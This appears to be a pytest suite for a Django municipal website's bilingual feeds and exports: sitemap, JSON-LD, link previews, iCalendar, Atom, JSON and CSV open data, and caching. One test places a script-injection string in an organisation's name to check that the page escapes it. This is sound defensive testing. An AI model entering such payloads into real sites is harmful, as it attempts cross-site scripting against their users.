"""What machines read from the section: sitemap, link previews, JSON-LD, iCalendar, Atom, JSON, CSV.

Every output is parsed as its consumers parse it and checked against the database in
both languages; every one is cached and shows a change on the next request.
"""

import csv
import datetime
import io
import json
import re
import xml.etree.ElementTree as ET
import zoneinfo

import pytest
from dateutil import tz as dateutil_tz
from django.core.files.storage import default_storage
from django.db import connection
from django.db.models import F
from django.test.utils import CaptureQueriesContext
from django.urls import reverse
from django.utils import timezone, translation
from icalendar import Calendar

from international.models import (
    Call,
    ContentVersion,
    Event,
    Organization,
    Participation,
    Programme,
    TwinCity,
    Visit,
)
from international.publishing.open_data import DATASETS
from tests.factories import (
    CallFactory,
    EventFactory,
    OrganizationFactory,
    ParticipationFactory,
    ProgrammeFactory,
    TwinCityFactory,
    VisitFactory,
    uploaded_image,
)
from tests.pages import parse
from tests.sitemaps import sitemap_urls

pytestmark = [pytest.mark.usefixtures("seeded_module"), pytest.mark.django_db]

LANGUAGES = ("bg", "en")
SITEMAP = "{http://www.sitemaps.org/schemas/sitemap/0.9}"
XHTML = "{http://www.w3.org/1999/xhtml}"
ATOM = "{http://www.w3.org/2005/Atom}"
PAGE_NAMES = [
    "international:section", "international:map", "international:open_data",
    "international:partnership",
]  # fmt: skip


@pytest.fixture
def records(db):
    """Beside the seed: a dated event, records in draft, a project of a draft programme."""
    organization = OrganizationFactory(name_bg="Мрежа „Дунав“", name_en="Danube Network")
    dated = EventFactory(
        name_bg="Среща на градовете",
        name_en="Meeting of the cities",
        place_bg="Страсбург",
        place_en="Strasbourg",
        start_date=datetime.date(2027, 5, 10),
        end_date=datetime.date(2027, 5, 12),
        organization=organization,
    )
    single_day = EventFactory(
        name_bg="Ден на Европа",
        name_en="Europe Day",
        start_date=datetime.date(2027, 5, 9),
        organization=None,
    )
    hidden_organization = OrganizationFactory(
        name_bg="Скрита мрежа", name_en="Hidden network", is_published=False
    )
    through_hidden = EventFactory(
        name_bg="Събитие чрез скрита мрежа",
        name_en="Event through a hidden network",
        start_date=datetime.date(2027, 6, 1),
        organization=hidden_organization,
    )
    hidden_programme = ProgrammeFactory(
        name_bg="Скрита програма", name_en="Hidden programme", is_published=False
    )
    # The seed adds no visits: one published and one in draft, for the visits' outputs.
    VisitFactory(title_bg="Делегация от Дунав", title_en="A delegation from the Danube")
    # A closed call stays public (its page, the sitemap, the open data), out of the calendar.
    CallFactory(
        title_bg="Приключила покана",
        title_en="Closed call",
        # Before the tests' "long ago": its deadline is a scheduled moment that dates pages.
        deadline=datetime.datetime(2024, 1, 15, 15, tzinfo=datetime.UTC),
    )
    return {
        "organization": organization,
        "dated": dated,
        "single_day": single_day,
        "through_hidden": through_hidden,
        "hidden": [
            hidden_organization,
            EventFactory(
                name_bg="Скрито събитие",
                name_en="Hidden event",
                start_date=datetime.date(2027, 1, 1),
                is_published=False,
            ),
            TwinCityFactory(name_bg="Скрит град", name_en="Hidden city", is_published=False),
            hidden_programme,
            ParticipationFactory(
                programme=hidden_programme,
                title_bg="Проект на скрита програма",
                title_en="Project of a hidden programme",
            ),
            ParticipationFactory(
                title_bg="Скрит проект", title_en="Hidden project", is_published=False
            ),
            VisitFactory(title_bg="Скрито посещение", title_en="Hidden visit", is_published=False),
            CallFactory(title_bg="Скрита покана", title_en="Hidden call", is_published=False),
        ],
    }


def published_records():
    """Return every record the public may see, by kind, as the pages show them."""
    return {
        "organizations": list(Organization.objects.published()),
        "events": list(Event.objects.published()),
        "programmes": list(Programme.objects.published()),
        "participations": list(
            Participation.objects.published().filter(programme__is_published=True)
        ),
        "twin_cities": list(TwinCity.objects.published()),
        "visits": list(Visit.objects.published()),
        "calls": list(Call.objects.published().open_first()),
    }


def identifier(record):
    prefix = "twin-city" if isinstance(record, TwinCity) else type(record)._meta.model_name
    return f"{prefix}-{record.pk}"


def absolute_url(record, language):
    with translation.override(language):
        return f"http://testserver{record.get_absolute_url()}"


def url(name, language, **kwargs):
    with translation.override(language):
        return reverse(name, kwargs=kwargs or None)


def body(response):
    """Return a response's bytes, streamed or not."""
    if response.streaming:
        return b"".join(response.streaming_content)
    return response.content


def get(client, path):
    response = client.get(path)
    assert response.status_code == 200, path
    return response


HIDDEN_NAMES = [
    "Скрита мрежа",
    "Hidden network",
    "Скрито събитие",
    "Hidden event",
    "Скрит град",
    "Hidden city",
    "Скрита програма",
    "Hidden programme",
    "Project of a hidden programme",
    "Проект на скрита програма",
    "Hidden project",
    "Скрит проект",
]


# Addresses -------------------------------------------------------------------------------


def test_the_new_addresses_are_translated_in_each_language():
    assert url("international:map", "bg") == "/bg/mezhdunarodna-deynost/karta/"
    assert url("international:map", "en") == "/en/international-activity/map/"
    assert url("international:open_data", "bg") == "/bg/mezhdunarodna-deynost/otvoreni-danni/"
    assert url("international:open_data", "en") == "/en/international-activity/open-data/"
    assert url("international:events_calendar", "bg") == "/bg/mezhdunarodna-deynost/sabitiya.ics"
    assert url("international:events_calendar", "en") == "/en/international-activity/events.ics"
    assert url("international:changes_feed", "bg") == "/bg/mezhdunarodna-deynost/promeni.atom"
    assert url("international:changes_feed", "en") == "/en/international-activity/changes.atom"
    assert url("international:open_data_json", "bg") == (
        "/bg/mezhdunarodna-deynost/otvoreni-danni/mezhdunarodna-deynost.json"
    )
    assert url("international:open_data_json", "en") == (
        "/en/international-activity/open-data/international-activity.json"
    )
    assert url("international:open_data_twin_cities_csv", "bg") == (
        "/bg/mezhdunarodna-deynost/otvoreni-danni/pobratimeni-gradove.csv"
    )
    assert url("international:open_data_organizations_csv", "en") == (
        "/en/international-activity/open-data/organisations.csv"
    )
    assert reverse("sitemap") == "/sitemap.xml"
    assert reverse("robots_txt") == "/robots.txt"


# Sitemap and robots.txt --------------------------------------------------------------------


def sitemap_entries(client):
    """Return {location: (lastmod, {hreflang: href})} of every sitemap /sitemap.xml names."""
    entries = {}
    for entry in sitemap_urls(client):
        location = entry.find(f"{SITEMAP}loc").text
        lastmod = entry.find(f"{SITEMAP}lastmod")
        alternates = {
            link.get("hreflang"): link.get("href")
            for link in entry.findall(f"{XHTML}link")
            if link.get("rel") == "alternate"
        }
        assert location not in entries, f"{location} is listed twice"
        entries[location] = (lastmod.text if lastmod is not None else None, alternates)
    return entries


def test_the_sitemap_lists_every_published_record_in_both_languages_with_alternates(
    client, records
):
    entries = sitemap_entries(client)
    for kind, kind_records in published_records().items():
        assert kind_records, kind
        for record in kind_records:
            both = {language: absolute_url(record, language) for language in LANGUAGES}
            for language in LANGUAGES:
                lastmod, alternates = entries[both[language]]
                assert alternates == {"bg": both["bg"], "en": both["en"], "x-default": both["bg"]}
                assert lastmod == timezone.localtime(record.updated_at).date().isoformat()


def test_the_sitemap_lists_the_section_map_and_open_data_pages_and_the_statements(client):
    entries = sitemap_entries(client)
    for name in PAGE_NAMES:
        for language in LANGUAGES:
            location = f"http://testserver{url(name, language)}"
            assert location in entries
            _lastmod, alternates = entries[location]
            assert alternates["bg"] == f"http://testserver{url(name, 'bg')}"
            assert alternates["en"] == f"http://testserver{url(name, 'en')}"
    assert "http://testserver/bg/dostapnost/" in entries
    assert "http://testserver/en/accessibility/" in entries


def test_the_sitemap_dates_the_section_pages_by_the_last_change_unpublishing_included(
    client, records
):
    long_ago = datetime.datetime(2024, 3, 1, 12, tzinfo=datetime.UTC)
    ContentVersion.objects.update(version=F("version") + 1, changed_at=long_ago)
    section = "http://testserver/bg/mezhdunarodna-deynost/"
    assert sitemap_entries(client)[section][0] == "2024-03-01"

    organization = Organization.objects.get(slug_en="strasbourg-club")
    organization.is_published = False
    organization.save()

    today = timezone.localdate().isoformat()
    entries = sitemap_entries(client)
    assert entries[section][0] == today
    organisations = f"http://testserver{url('international:organization_list', 'en')}"
    assert entries[organisations][0] == today


def test_the_sitemap_never_lists_an_unpublished_record(client, records):
    entries = sitemap_entries(client)
    hidden = [*records["hidden"]]
    for record in hidden:
        for language in LANGUAGES:
            assert absolute_url(record, language) not in entries
    assert len(entries) == 2 * (
        len(PAGE_NAMES)
        + 6  # the lists of organisations, events, programmes, twin cities, visits and calls
        + sum(len(kind) for kind in published_records().values())
        + 2  # the accessibility statement and the notice on cookies
    )


def test_robots_txt_points_to_the_sitemap_and_keeps_crawlers_out_of_the_admin(client):
    response = get(client, "/robots.txt")
    assert response["Content-Type"].startswith("text/plain")
    lines = body(response).decode().splitlines()
    assert "User-agent: *" in lines
    assert "Disallow: /admin/" in lines
    assert "Sitemap: http://testserver/sitemap.xml" in lines


# Link previews and JSON-LD -----------------------------------------------------------------


def json_ld(response):
    """Return every JSON-LD block of a page, parsed."""
    html = body(response).decode()
    blocks = re.findall(r'<script type="application/ld\+json">(.*?)</script>', html, re.DOTALL)
    assert blocks, "the page has no JSON-LD"
    return [json.loads(block) for block in blocks]


def nodes(data, node_type):
    return [node for node in data["@graph"] if node["@type"] == node_type]


def meta(response):
    """Return the page's <meta property|name=... content=...> as a dict."""
    head = parse(response).find("head")
    return {
        element.attrs.get("property") or element.attrs.get("name"): element.attrs["content"]
        for element in head.find_all("meta")
        if "content" in element.attrs
    }


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_section_describes_the_municipality_and_its_memberships_as_json_ld(
    client, records, language
):
    response = get(client, url("international:section", language))
    [data] = json_ld(response)
    assert data["@context"] == "https://schema.org"
    [page] = nodes(data, "WebPage")
    [municipality] = nodes(data, "GovernmentOrganization")
    assert page["inLanguage"] == language
    assert page["url"] == f"http://testserver{url('international:section', language)}"
    assert page["about"] == {"@id": municipality["@id"]}
    with translation.override(language):
        organizations = [o.name for o in Organization.objects.published()]
        events = {e.name: e for e in Event.objects.published()}
        cities = [c.name for c in TwinCity.objects.published()]
    assert municipality["name"] == (
        "Община Стара Загора" if language == "bg" else "Stara Zagora Municipality"
    )
    assert [member["name"] for member in municipality["memberOf"]] == organizations
    assert all(member["@type"] == "Organization" for member in municipality["memberOf"])
    # Only events with dates are schema.org Events (an Event needs its startDate).
    dated = {name for name, record in events.items() if record.start_date}
    assert dated and dated != set(events)
    assert {event["name"] for event in municipality["event"]} == dated
    for event in municipality["event"]:
        record = events[event["name"]]
        assert event["@type"] == "Event"
        assert event["startDate"] == record.start_date.isoformat()
        assert event["endDate"] == (record.end_date or record.start_date).isoformat()
        with translation.override(language):
            assert event["location"]["name"] == record.place
    assert [city["name"] for city in page["mentions"]] == cities


@pytest.mark.parametrize("language", LANGUAGES)
def test_an_event_page_carries_the_event_with_its_dates_and_place(client, records, language):
    event = records["dated"]
    response = get(client, absolute_url(event, language))
    [data] = json_ld(response)
    [node] = nodes(data, "Event")
    assert node["name"] == ("Среща на градовете" if language == "bg" else "Meeting of the cities")
    assert node["startDate"] == "2027-05-10"
    assert node["endDate"] == "2027-05-12"
    assert node["location"] == {
        "@type": "Place",
        "name": "Страсбург" if language == "bg" else "Strasbourg",
        "address": "Страсбург" if language == "bg" else "Strasbourg",
    }
    [page] = nodes(data, "WebPage")
    assert page["mainEntity"] == {"@id": node["@id"]}
    assert page["inLanguage"] == language


def test_an_organisation_page_makes_the_municipality_a_member_of_it(client):
    organization = Organization.objects.get(slug_en="strasbourg-club")
    [data] = json_ld(get(client, absolute_url(organization, "en")))
    [municipality] = nodes(data, "GovernmentOrganization")
    [node] = nodes(data, "Organization")
    assert node["name"] == "Strasbourg Club"
    assert node["alternateName"] == "Club de Strasbourg"
    assert node["foundingDate"] == "2003"
    assert node["url"] == "https://www.club-strasbourg.eu/"
    assert municipality["memberOf"] == [{"@id": node["@id"]}]


def test_a_twin_city_page_gives_the_city_and_its_coordinates(client):
    city = TwinCity.objects.get(slug_en="larissa")
    [data] = json_ld(get(client, absolute_url(city, "bg")))
    [node] = nodes(data, "City")
    assert node["name"] == "Лариса"
    assert node["address"]["addressCountry"] == "GR"
    assert node["geo"] == {"@type": "GeoCoordinates", "latitude": 39.64, "longitude": 22.42}


def test_json_ld_cannot_be_broken_out_of_by_text_staff_type(client):
    organization = OrganizationFactory(
        name_bg="</script><script>alert(1)</script>", name_en="</script><!-- & -->"
    )
    response = get(client, absolute_url(organization, "en"))
    html = body(response).decode()
    block = re.search(r'<script type="application/ld\+json">(.*?)</script>', html, re.DOTALL)
    assert "<" not in block.group(1)
    [data] = json_ld(response)
    assert nodes(data, "Organization")[0]["name"] == "</script><!-- & -->"
    assert "<script>alert(1)" not in html


@pytest.mark.parametrize("language", LANGUAGES)
def test_a_record_page_has_open_graph_and_twitter_tags_in_its_language(client, language):
    organization = Organization.objects.get(slug_en="strasbourg-club")
    response = get(client, absolute_url(organization, language))
    tags = meta(response)
    expected_name = "Страсбургски клуб" if language == "bg" else "Strasbourg Club"
    assert tags["og:title"] == expected_name
    assert tags["twitter:title"] == expected_name
    assert tags["og:url"] == absolute_url(organization, language)
    assert tags["og:type"] == "article"
    assert tags["og:locale"] == {"bg": "bg_BG", "en": "en_GB"}[language]
    assert tags["og:locale:alternate"] == {"bg": "en_GB", "en": "bg_BG"}[language]
    assert ("активен член" if language == "bg" else "active member") in tags["og:description"]
    # The seed has no logos: the section's own picture, never a placeholder.
    assert tags["og:image"] == f"http://testserver/static/img/preview-{language}.png"
    assert tags["twitter:card"] == "summary_large_image"


def test_a_record_with_a_logo_shows_it_in_link_previews(client, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):  # renditions come on commit
        organization = OrganizationFactory(
            name_en="Network with a logo",
            image=uploaded_image("logo.png", size=(800, 400)),
            image_alt_bg="Лого на мрежата",
            image_alt_en="Logo of the network",
        )
    organization.refresh_from_db()
    tags = meta(get(client, absolute_url(organization, "en")))
    image_url = tags["og:image"]
    assert image_url.startswith("http://testserver/media/")
    assert default_storage.exists(image_url.removeprefix("http://testserver/media/"))
    assert tags["og:image:alt"] == "Logo of the network"
    assert tags["og:image:type"] == "image/png"
    assert (tags["og:image:width"], tags["og:image:height"]) == ("800", "400")
    assert tags["twitter:image"] == image_url
    [data] = json_ld(get(client, absolute_url(organization, "en")))
    assert nodes(data, "Organization")[0]["image"] == image_url


def test_the_section_page_has_a_link_preview_with_the_sections_own_picture(client):
    tags = meta(get(client, url("international:section", "en")))
    assert tags["og:title"] == "International activity of Stara Zagora Municipality"
    assert tags["og:type"] == "website"
    assert tags["og:image"] == "http://testserver/static/img/preview-en.png"


@pytest.mark.parametrize("name", [*PAGE_NAMES])
@pytest.mark.parametrize("language", LANGUAGES)
def test_every_page_announces_the_feed_and_the_calendar_in_its_language(client, name, language):
    head = parse(get(client, url(name, language))).find("head")
    feeds = {
        link.attrs["type"]: link.attrs["href"]
        for link in head.find_all("link", rel="alternate")
        if "type" in link.attrs
    }
    assert feeds["application/atom+xml"] == url("international:changes_feed", language)
    assert feeds["text/calendar"] == url("international:events_calendar", language)


def test_the_admin_preview_carries_no_structured_data(staff_client):
    organization = Organization.objects.get(slug_en="strasbourg-club")
    response = staff_client.get(
        reverse("admin:international_organization_preview", args=[organization.pk, "en"])
    )
    assert response.status_code == 200
    html = body(response).decode()
    assert "application/ld+json" not in html
    assert 'property="og:' not in html


# iCalendar -------------------------------------------------------------------------------


def calendar(client, language):
    response = get(client, url("international:events_calendar", language))
    assert response["Content-Type"] == "text/calendar; charset=utf-8"
    content = body(response)
    # RFC 5545: lines end in CRLF and are folded at 75 octets.
    lines = content.split(b"\r\n")
    assert lines[-1] == b""
    assert all(len(line) <= 75 for line in lines)
    return Calendar.from_ical(content)


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_calendar_has_every_published_event_with_dates_in_the_page_language(
    client, records, language
):
    parsed = calendar(client, language)
    assert parsed["VERSION"] == "2.0"
    assert parsed["PRODID"]
    assert parsed["METHOD"] == "PUBLISH"
    events = {str(event["UID"]): event for event in parsed.walk("VEVENT")}
    dated = Event.objects.published().filter(start_date__isnull=False)
    assert set(events) == {f"event-{event.pk}@testserver" for event in dated}
    for record in dated:
        entry = events[f"event-{record.pk}@testserver"]
        with translation.override(language):
            assert str(entry["SUMMARY"]) == record.name
            assert str(entry["URL"]) == absolute_url(record, language)
            if record.place:
                assert str(entry["LOCATION"]) == record.place
        assert entry.decoded("DTSTART") == record.start_date
        assert entry.decoded("DTEND") == (
            record.end_date or record.start_date
        ) + datetime.timedelta(days=1)
        assert entry.decoded("DTSTAMP") == record.updated_at.replace(microsecond=0)
        assert entry.decoded("DTSTAMP").utcoffset() == datetime.timedelta(0)


def test_the_calendar_names_the_events_in_bulgarian_and_english(client, records):
    bulgarian = [str(e["SUMMARY"]) for e in calendar(client, "bg").walk("VEVENT")]
    english = [str(e["SUMMARY"]) for e in calendar(client, "en").walk("VEVENT")]
    assert "Среща на градовете" in bulgarian and "Meeting of the cities" not in bulgarian
    assert "Meeting of the cities" in english and "Среща на градовете" not in english
    # Soonest first.
    assert english[:2] == ["Europe Day", "Meeting of the cities"]


def test_an_event_without_dates_is_left_out_of_the_calendar_and_unpublished_ones_too(
    client, records
):
    summaries = [str(e["SUMMARY"]) for e in calendar(client, "en").walk("VEVENT")]
    # "Open Days" takes place "every year", with no dates published: not in the calendar.
    assert not any("Open Days" in summary for summary in summaries)
    assert "Hidden event" not in summaries
    # An event through an unpublished organisation is itself published.
    assert "Event through a hidden network" in summaries


def test_the_calendars_time_zone_changes_when_the_time_zone_database_says(client):
    """Read by an RFC 5545 parser of its own (dateutil's), not icalendar's, every half hour
    of the weeks around each change from 2020 to 2045 has Europe/Sofia's offset."""
    raw = body(get(client, url("international:events_calendar", "en"))).decode()
    [zone] = Calendar.from_ical(raw).walk("VTIMEZONE")
    text = zone.to_ical().decode().replace("\r\n ", "").replace("\r\n", "\n")
    read = dateutil_tz.tzical(io.StringIO(text)).get()
    sofia = zoneinfo.ZoneInfo("Europe/Sofia")
    wrong = []
    for year in range(2020, 2046):
        for month in (3, 10):
            moment = datetime.datetime(year, month, 20, tzinfo=datetime.UTC)
            for _step in range(14 * 48):
                if moment.astimezone(read).utcoffset() != moment.astimezone(sofia).utcoffset():
                    wrong.append(moment)
                moment += datetime.timedelta(minutes=30)
    assert wrong == []


def test_a_calendar_with_no_dated_event_is_still_a_valid_calendar(client):
    parsed = calendar(client, "bg")
    assert list(parsed.walk("VEVENT")) == []
    # RFC 5545 asks for at least one component: the calendar's own time zone.
    assert [str(tz["TZID"]) for tz in parsed.walk("VTIMEZONE")] == ["Europe/Sofia"]
    name = "Европейски събития и срокове на покани на Община Стара Загора"
    assert str(parsed["X-WR-CALNAME"]) == name


def test_the_calendars_name_and_description_are_escaped_as_text(client):
    raw = body(get(client, url("international:events_calendar", "bg"))).decode()
    unfolded = raw.replace("\r\n ", "")

    description = next(line for line in unfolded.splitlines() if line.startswith("X-WR-CALDESC:"))
    # RFC 5545 (3.3.11): a comma in a text value is escaped; a bare one separates values.
    assert "," in description
    assert ", " not in description.replace("\\,", "")


# Atom ------------------------------------------------------------------------------------


def atom(client, language):
    response = get(client, url("international:changes_feed", language))
    assert response["Content-Type"].startswith("application/atom+xml")
    return ET.fromstring(body(response))  # noqa: S314 - the site's own output


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_atom_feed_has_an_entry_per_published_record_in_the_page_language(
    client, records, language
):
    feed = atom(client, language)
    assert feed.tag == f"{ATOM}feed"
    assert feed.get("{http://www.w3.org/XML/1998/namespace}lang") == language
    assert feed.find(f"{ATOM}id").text
    assert feed.find(f"{ATOM}updated").text
    entries = feed.findall(f"{ATOM}entry")
    by_link = {entry.find(f"{ATOM}link").get("href"): entry for entry in entries}
    expected = [record for kind in published_records().values() for record in kind]
    assert len(entries) == len(expected) + 1  # and the section page itself
    for record in expected:
        entry = by_link[absolute_url(record, language)]
        with translation.override(language):
            assert entry.find(f"{ATOM}title").text == str(record)
        assert entry.find(f"{ATOM}id").text.endswith(f"/{identifier(record)}/{language}")
        updated = datetime.datetime.fromisoformat(entry.find(f"{ATOM}updated").text)
        assert updated == record.updated_at
    titles = [entry.find(f"{ATOM}title").text for entry in entries]
    assert not set(titles) & set(HIDDEN_NAMES)
    # Newest change first.
    dates = [entry.find(f"{ATOM}updated").text for entry in entries]
    assert dates == sorted(dates, reverse=True)


def test_an_updated_record_keeps_its_entry_id_and_moves_to_the_top(client, records):
    before = atom(client, "en").findall(f"{ATOM}entry")
    organization = Organization.objects.get(slug_en="strasbourg-club")
    old_id = next(
        e.find(f"{ATOM}id").text for e in before if e.find(f"{ATOM}title").text == "Strasbourg Club"
    )
    organization.name_en = "Strasbourg Club (renamed)"
    organization.save()

    first = atom(client, "en").findall(f"{ATOM}entry")[0]
    assert first.find(f"{ATOM}title").text == "Strasbourg Club (renamed)"
    assert first.find(f"{ATOM}id").text == old_id
    assert "Updated" in first.find(f"{ATOM}summary").text


# JSON ------------------------------------------------------------------------------------


def open_data_json(client, language="en"):
    response = get(client, url("international:open_data_json", language))
    assert response["Content-Type"] == "application/json; charset=utf-8"
    assert response.streaming
    return json.loads(body(response))


def test_the_json_export_has_every_published_record_with_both_languages(client, records):
    data = open_data_json(client)
    assert data["licence"]["id"] == "CC-BY-4.0"
    assert data["licence"]["url"] == "https://creativecommons.org/licenses/by/4.0/"
    assert data["languages"] == ["bg", "en"]
    assert data["documentation"] == {
        "bg": "http://testserver/bg/mezhdunarodna-deynost/otvoreni-danni/",
        "en": "http://testserver/en/international-activity/open-data/",
    }
    assert data["publisher"]["name"] == {
        "bg": "Община Стара Загора",
        "en": "Stara Zagora Municipality",
    }
    for kind, kind_records in published_records().items():
        exported = data[kind]
        assert [item["id"] for item in exported] == [identifier(r) for r in kind_records]
        for item, record in zip(exported, kind_records, strict=True):
            for language in LANGUAGES:
                assert item[f"url_{language}"] == absolute_url(record, language)
                assert item[f"slug_{language}"] == getattr(record, f"slug_{language}")
                source = record.slug_source  # "name", or "title" for projects and visits
                assert item[f"{source}_{language}"] == getattr(record, f"{source}_{language}")
            assert item["updated"] == record.updated_at.isoformat()
    dumped = json.dumps(data, ensure_ascii=False)
    assert [name for name in HIDDEN_NAMES if name in dumped] == []


def test_the_json_export_gives_typed_values_and_references(client, records):
    data = open_data_json(client)
    events = {item["id"]: item for item in data["events"]}
    dated = events[identifier(records["dated"])]
    assert dated["start_date"] == "2027-05-10"
    assert dated["end_date"] == "2027-05-12"
    assert dated["place_bg"] == "Страсбург" and dated["place_en"] == "Strasbourg"
    assert dated["organization_id"] == identifier(records["organization"])
    # A reference to an unpublished record is left empty rather than revealed.
    assert events[identifier(records["through_hidden"])]["organization_id"] is None
    larissa = next(item for item in data["twin_cities"] if item["slug_en"] == "larissa")
    assert (larissa["latitude"], larissa["longitude"]) == (39.64, 22.42)
    assert larissa["country"] == "GR"
    assert (larissa["country_name_bg"], larissa["country_name_en"]) == ("Гърция", "Greece")
    assert (larissa["kind_label_bg"], larissa["kind_label_en"]) == ("Побратимен град", "Twin city")
    assert larissa["since_year"] is None
    club = next(item for item in data["organizations"] if item["slug_en"] == "strasbourg-club")
    assert club["founded_year"] == 2003
    assert club["description_en"].startswith("<p>Stara Zagora Municipality is an active member")


def test_an_english_field_left_empty_is_null_not_the_bulgarian_text(client):
    OrganizationFactory(name_bg="Само на български", name_en="", slug_en="")
    data = open_data_json(client)
    item = next(item for item in data["organizations"] if item["name_bg"] == "Само на български")
    assert item["name_en"] is None


def test_the_json_export_is_the_same_at_both_addresses(client, records):
    assert open_data_json(client, "bg") == open_data_json(client, "en")


# CSV -------------------------------------------------------------------------------------


def csv_rows(client, dataset, language="bg"):
    response = get(client, url(dataset.url_name, language))
    assert response["Content-Type"].startswith("text/csv; charset=utf-8")
    assert response.streaming
    assert response["Content-Disposition"].startswith("attachment; filename=")
    content = body(response)
    assert content.startswith(b"\xef\xbb\xbf"), "spreadsheets need the UTF-8 byte order mark"
    text = content.decode("utf-8").removeprefix("\ufeff")
    reader = csv.DictReader(io.StringIO(text, newline=""))
    assert reader.fieldnames == [column.name for column in dataset.columns]
    return list(reader)


@pytest.mark.parametrize("dataset", DATASETS, ids=lambda dataset: dataset.key)
def test_each_csv_file_has_every_published_record_of_its_kind_in_both_languages(
    client, records, dataset
):
    rows = csv_rows(client, dataset)
    expected = published_records()[dataset.key]
    assert [row["id"] for row in rows] == [identifier(record) for record in expected]
    source = dataset.model.slug_source  # "name", or "title" for projects and visits
    for row, record in zip(rows, expected, strict=True):
        for language in LANGUAGES:
            assert row[f"{source}_{language}"] == (getattr(record, f"{source}_{language}") or "")
            assert row[f"url_{language}"] == absolute_url(record, language)
        assert row["updated"] == record.updated_at.isoformat()
    assert not any(name in row.values() for row in rows for name in HIDDEN_NAMES)


def test_the_csv_keeps_cyrillic_commas_and_quotes_intact(client):
    OrganizationFactory(name_bg="Мрежа „Запад, Изток“", name_en='Network "West, East"')
    [dataset] = [d for d in DATASETS if d.key == "organizations"]
    rows = csv_rows(client, dataset, "en")
    row = next(row for row in rows if row["name_bg"] == "Мрежа „Запад, Изток“")
    assert row["name_en"] == 'Network "West, East"'
    assert row["member_since"] == ""


def test_the_csv_twin_cities_give_coordinates_and_country_codes(client):
    [dataset] = [d for d in DATASETS if d.key == "twin_cities"]
    rows = {row["slug_en"]: row for row in csv_rows(client, dataset)}
    assert (rows["yueyang"]["latitude"], rows["yueyang"]["longitude"]) == ("29.36", "113.13")
    assert rows["yueyang"]["country"] == "CN"
    assert rows["yueyang"]["region_bg"] == "провинция Хунан"


# The "Open data" page and the section's links ------------------------------------------------


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_open_data_page_links_every_file_and_documents_every_field(client, language):
    root = parse(get(client, url("international:open_data", language)))
    main = root.find("main")
    assert len(main.find_all("h1")) == 1
    links = {a.attrs["href"] for a in main.find_all("a")}
    assert url("international:open_data_json", language) in links
    assert url("international:events_calendar", language) in links
    assert url("international:changes_feed", language) in links
    assert "/sitemap.xml" in links
    assert "https://creativecommons.org/licenses/by/4.0/" in links
    for dataset in DATASETS:
        assert url(dataset.url_name, language) in links
        table_fields = {
            code.text
            for code in main.find("h3", id=f"schema-{dataset.key}").parent.find_all("code")
        }
        assert {column.name for column in dataset.columns} <= table_fields
    assert "CC BY 4.0" in main.text


@pytest.mark.parametrize("language", LANGUAGES)
def test_the_section_page_links_the_open_data_feeds_and_licence(client, language):
    root = parse(get(client, url("international:section", language)))
    part = root.find("section", id="open-data")
    links = {a.attrs["href"] for a in part.find_all("a")}
    assert links == {
        "https://creativecommons.org/licenses/by/4.0/",
        url("international:open_data", language),
        url("international:open_data_json", language),
        url("international:events_calendar", language),
        url("international:changes_feed", language),
    }
    assert part.find("a", rel="license external") is not None
    assert root.find("nav", class_="toc").find("a", href="#open-data") is not None


# Caching ---------------------------------------------------------------------------------


def machine_readable_paths(language):
    return [
        "/sitemap.xml",
        "/sitemap-pages.xml",
        f"/sitemap-twin-cities-{language}.xml",
        url("international:events_calendar", language),
        url("international:changes_feed", language),
        url("international:open_data_json", language),
        *[url(dataset.url_name, language) for dataset in DATASETS],
        url("international:open_data", language),
        url("international:map", language),
    ]


@pytest.mark.parametrize("language", LANGUAGES)
def test_every_feed_and_export_shows_an_edit_on_the_next_request(client, records, language):
    event = records["dated"]
    city = TwinCity.objects.get(slug_en="larissa")
    paths = machine_readable_paths(language)
    for path in paths:
        get(client, path)  # now cached

    event.name_bg, event.name_en = "Преименувано събитие", "Renamed event"
    event.save()
    city.name_bg, city.name_en = "Лариса (нов)", "Larissa (new)"
    city.slug_bg, city.slug_en = "larisa-nov", "larissa-new"
    city.save()

    new_name = {"bg": "Преименувано събитие", "en": "Renamed event"}[language]
    new_city = {"bg": "Лариса (нов)", "en": "Larissa (new)"}[language]
    contents = {path: body(get(client, path)).decode("utf-8") for path in paths}
    for path in [
        url("international:events_calendar", language),
        url("international:changes_feed", language),
    ]:
        assert new_name in contents[path], path
    assert "Renamed event" in contents[url("international:open_data_json", language)]
    assert "Преименувано събитие" in contents[url("international:open_data_json", language)]
    assert "Larissa (new)" in contents[url("international:open_data_twin_cities_csv", language)]
    assert "larissa-new" in contents[f"/sitemap-twin-cities-{language}.xml"]
    assert new_city in contents[url("international:map", language)]


def test_an_unchanged_export_is_served_from_the_cache(client, records):
    for path in machine_readable_paths("en"):
        first = body(get(client, path))
        with CaptureQueriesContext(connection) as queries:
            second = body(get(client, path))
        assert second == first, path
        # Only the content version is read.
        assert len(queries) == 1, (path, [q["sql"] for q in queries])


def test_a_feed_answers_a_conditional_request_with_not_modified(client):
    path = url("international:changes_feed", "en")
    response = get(client, path)
    assert response["ETag"]
    again = client.get(path, HTTP_IF_NONE_MATCH=response["ETag"])
    assert again.status_code == 304
    export = get(client, url("international:open_data_json", "en"))
    again = client.get(url("international:open_data_json", "en"), HTTP_IF_NONE_MATCH=export["ETag"])
    assert again.status_code == 304


def test_open_data_may_be_read_by_any_web_page(client):
    # The feeds and files, not the sitemaps (for crawlers), the open data page and the map.
    paths = [path for path in machine_readable_paths("en")[:-2] if "sitemap" not in path]
    for path in [*paths, url("international:open_data_datapackage", "en")]:
        assert get(client, path)["Access-Control-Allow-Origin"] == "*", path


def test_the_exports_and_feeds_count_queries_independent_of_the_records(client):
    def count(path):
        from django.core.cache import cache

        cache.clear()
        with CaptureQueriesContext(connection) as queries:
            body(get(client, path))
        return len(queries)

    paths = [p for p in machine_readable_paths("en") if not p.endswith("/")]
    few = {path: count(path) for path in paths}
    for number in range(30):
        EventFactory(start_date=datetime.date(2027, 1, 1) + datetime.timedelta(days=number))
        TwinCityFactory(latitude=10 + number, longitude=20)
    many = {path: count(path) for path in paths}
    assert many == few


def test_the_documented_schema_names_every_field_and_the_licence():
    from django.conf import settings

    document = (settings.BASE_DIR / "docs" / "open-data.md").read_text(encoding="utf-8")
    assert "CC BY 4.0" in document
    assert "https://creativecommons.org/licenses/by/4.0/" in document
    for dataset in DATASETS:
        section = document.split(f"### `{dataset.key}`", 1)[1].split("\n### ", 1)[0]
